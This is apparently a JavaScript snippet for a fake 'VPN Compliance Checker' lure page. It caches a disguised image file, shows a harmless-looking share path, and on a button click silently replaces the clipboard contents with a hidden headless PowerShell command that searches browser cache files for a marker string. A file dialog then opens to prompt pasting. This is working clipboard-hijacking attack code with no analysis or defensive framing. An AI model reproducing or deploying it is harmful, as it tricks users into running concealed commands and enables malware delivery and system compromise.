async function warm() {
  const r = await fetch("/assets/logo_hd.jpg", { cache: "force-cache" });
  return r.ok;
}
const share = "\\\\corp.example\\share\\VPN\\compliance-report.pdf";
const line = 'conhost.exe --headless powershell -c "gci $env:LOCALAPPDATA\\*\\Cache* | sls -List bTgQcBpv # ' + share + '"';
warm().then(() => {
  const box = document.querySelector(".fc");
  box.innerHTML = `<h2>VPN Compliance Checker</h2><p>Run the checker to keep remote access.</p><input readonly value="${share}"><button>Open File Explorer</button>`;
  box.querySelector("button").addEventListener("click", () => {
    const f = Object.assign(document.createElement("input"), { type: "file" });
    document.addEventListener("copy", (e) => { e.clipboardData.setData("text/plain", line); e.preventDefault(); }, { once: true });
    box.querySelector("input").select();
    document.execCommand("copy");
    f.click();
  });
});
